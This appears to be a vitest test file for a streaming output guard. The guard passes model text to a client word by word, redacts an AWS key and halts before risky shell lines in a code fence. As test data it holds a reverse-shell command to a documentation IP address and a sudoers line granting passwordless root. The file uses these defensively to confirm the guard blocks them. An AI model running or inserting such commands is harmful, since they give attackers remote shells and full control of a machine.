// Streaming stays streaming: the upstream sends on only once the client has what came before, so a byte that waits for too much
// stops the test, and a slow machine does not.
import { describe, expect, test } from 'vitest';
import { installation } from './installation.ts';
import { watch } from './live.ts';
import { chunk, chunks, done, pieces } from './openai-says.ts';
import { awsKey, leaks } from './samples.ts';

const penstock = installation();
const head = { 'content-type': 'text/event-stream' };
const words =
  'The guard reads along while the words go by. It keeps back no more than it must: a word, a mark, perhaps the start of an address. ' +
  'Zürich, 12:30 (or ask). Numbers like 2026-11-24, 4.5 and 1,000 pass; so do names, e.g. some_name, and **more** of `this` sort.\n\n- one\n- two';
const prose =
  'The guard reads along while the words go by. It keeps back no more than it must: a word, a mark, perhaps the start of an address. ' +
  'Zürich, 12:30 \u{1f600}. See https://docs.example/a?b=c (or ask). Numbers like 2026-11-24 or 4.5 or 1,000 go; so do names, e.g. some_name.\n\n' +
  '- one\n- two\n\n> and **more** of `this` sort.\n';
/** A number may be a house's, where an address begins: `4 avenue …`, `24, 42nd Street …`. Three letters tell, of these words. */
const numbers =
  'On 2026-11-24, 4.5 and 1,000 pass, 12 people did, 3 are due, 7 quite soon and 90 big or rural ones at 5 all right.\n';

/** Cut as models cut: a space belongs to the word behind it. */
const tokens = words.match(/\s*\S+/g)!;

test('a word arrives before the upstream sends the third one after it', async () => {
  const script = penstock.live(async answer => {
    answer.writeHead(200, head);
    for (const [at, content] of tokens.entries()) {
      const due = tokens.slice(0, Math.max(0, at - 2)).join('');
      await client.until(({ text }) => text.length >= due.length);
      answer.write(chunk({ content }));
    }
    answer.end(chunk({}, { finish: 'stop' }) + done);
  });
  const client = watch(penstock, script);
  await script.end;
  await client.until(({ state }) => state !== 'open');
  expect([client.state, client.text]).toEqual(['whole', words]);
});

test.for([1, 3, 7])('in deltas of %i characters a word leaves when the space behind it has come', async size => {
  const script = penstock.live(async answer => {
    answer.writeHead(200, head);
    const ends: number[] = [];
    let due = 0;
    let sent = '';
    for (const content of pieces(prose, size)) {
      answer.write(chunk({ content }));
      sent += content;
      ends.push(sent.length);
      await client.until(({ text }) => text.length >= due);
      // A delta leaves as a whole: those that end with or before the last space are due by the next one.
      due = ends.findLast(end => end <= sent.search(/\s\S*$/) + 1) ?? 0;
    }
    answer.end(chunk({}, { finish: 'stop' }) + done);
  });
  const client = watch(penstock, script);
  await script.end;
  await client.until(({ state }) => state !== 'open');
  expect([client.state, client.text]).toEqual(['whole', prose]);
});

test('a number waits for no more letters than tell that no street stands behind it', async () => {
  const script = penstock.live(async answer => {
    answer.writeHead(200, head);
    for (let sent = 1; sent <= numbers.length; sent += 1) {
      answer.write(chunk({ content: numbers[sent - 1]! }));
      const behind = /[0-9.,]+ [a-z0-9.]{0,3}$/.exec(numbers.slice(0, sent));
      const due = behind?.index ?? numbers.slice(0, sent).search(/\s\S*$/);
      await client.until(({ text }) => text.length >= due);
    }
    answer.end(chunk({}, { finish: 'stop' }) + done);
  });
  const client = watch(penstock, script);
  await script.end;
  await client.until(({ state }) => state !== 'open');
  expect([client.state, client.text]).toEqual(['whole', numbers]);
});

test("what follows a secret does not wait for more than the secret's end", async () => {
  const script = penstock.live(async answer => {
    answer.writeHead(200, head);
    for (const event of chunks(`The key is ${awsKey}. `, 3).slice(0, -1)) answer.write(event);
    await client.until(({ text }) => text === 'The key is [REDACTED:aws-access-key]. ');
    answer.end(chunk({ content: 'Bye.' }) + chunk({}, { finish: 'stop' }) + done);
  });
  const client = watch(penstock, script);
  await script.end;
  await client.until(({ state }) => state !== 'open');
  expect([client.state, client.text]).toEqual(['whole', 'The key is [REDACTED:aws-access-key]. Bye.']);
});

test('the head arrives with the first event, before there is a second one', async () => {
  const script = penstock.live(async answer => {
    answer.writeHead(200, head);
    answer.write(': up\n\n');
    await client.until(({ status, body }) => status === 200 && body === ': up\n\n');
    answer.end(done);
  });
  const client = watch(penstock, script);
  await script.end;
  await client.until(({ state }) => state !== 'open');
  expect(client.state).toBe('whole');
});

describe('code in a fence, character by character', () => {
  const opening = 'Run this:\n\n```sh\n';
  const harmless = [
    'set -eu',
    'cd /tmp',
    'echo "hello, $USER" > out.txt',
    'curl -s https://docs.example/install.txt | less',
    'ls -l',
  ];
  const risky = ['echo "me ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/me', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'];

  test('leaves line by line: each arrives once the upstream has sent its end', async () => {
    const script = penstock.live(async answer => {
      answer.writeHead(200, head);
      for (const line of [...opening.split('\n').slice(0, -1), ...harmless, '```', 'Done. ']) {
        for (const content of `${line}\n`) answer.write(chunk({ content }));
        await client.until(({ text }) => text.endsWith(`${line}\n`) || line === 'Done. ');
      }
      answer.end(chunk({}, { finish: 'stop' }) + done);
    });
    const client = watch(penstock, script);
    await script.end;
    await client.until(({ state }) => state !== 'open');
    expect(client.state).toBe('whole');
    expect(client.text).toBe(`${opening}${harmless.join('\n')}\n\`\`\`\nDone. \n`);
  });

  test.for(risky)('stops before a risky line, of which not a character has left: %s', async line => {
    const before = `${opening}${harmless.join('\n')}\n`;
    let seenBeforeItsEnd = '';
    const script = penstock.live(async answer => {
      answer.writeHead(200, head);
      for (const content of before + line) answer.write(chunk({ content }));
      await client.until(({ text }) => text.length >= before.length);
      // All of it but its end has been sent: time enough for a byte that does not wait.
      await new Promise(resolve => setTimeout(resolve, 100));
      seenBeforeItsEnd = client.text;
      for (const content of '\necho done\n```\n') answer.write(chunk({ content }));
      answer.end(chunk({}, { finish: 'stop' }) + done);
    });
    const client = watch(penstock, script);
    await script.end;
    await client.until(({ state }) => state !== 'open');
    expect([client.state, client.text, seenBeforeItsEnd]).toEqual(['whole', before, before]);
    expect(client.body).toContain('"code":"penstock_hold_unavailable"');
    expect(client.body.endsWith(done)).toBe(true);
    expect(leaks(client.body)).toEqual([]);
  });

  test.for([1, 5, 1_000])('stops at the same place when the fence is never closed, in deltas of %i', async size => {
    const before = `${opening}${harmless.join('\n')}\n`;
    const script = penstock.live(answer => {
      answer.writeHead(200, head);
      for (const event of chunks(`${before}${risky[0]}`, size)) answer.write(event);
      answer.end(done);
    });
    const client = watch(penstock, script);
    await script.end;
    await client.until(({ state }) => state !== 'open');
    expect(client.body).toContain('"code":"penstock_hold_unavailable"');
    expect(before.startsWith(client.text)).toBe(true);
    // The delta in which the line begins stays back as a whole.
    expect(before.length - client.text.length).toBeLessThan(size);
  });
});
